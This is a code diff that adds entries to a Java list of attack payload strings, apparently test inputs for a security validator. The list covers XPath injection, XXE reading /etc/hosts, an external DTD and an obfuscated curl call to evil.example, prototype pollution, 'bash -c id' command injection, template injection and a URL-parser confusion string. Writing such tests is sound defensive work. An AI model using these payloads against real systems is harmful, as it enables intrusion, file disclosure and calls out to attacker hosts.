@@ -32,7 +32,12 @@ final class Attacks {
           "'] | //user/* | a['",
           "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><d>&e;</d>",
           "<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\">",
-          "{\"__proto__\":{\"admin\":true}}");
+          "{\"__proto__\":{\"admin\":true}}",
+          "bash -c id",
+          "'{\"k\":2}'::jsonb @> '{\"z\":1}'::jsonb",
+          "{% if 1 %}x{% endif %}",
+          "alias k=curl&k evil.example",
+          "http://shop.example#@evil.example/");
 
   private Attacks() {}
 }
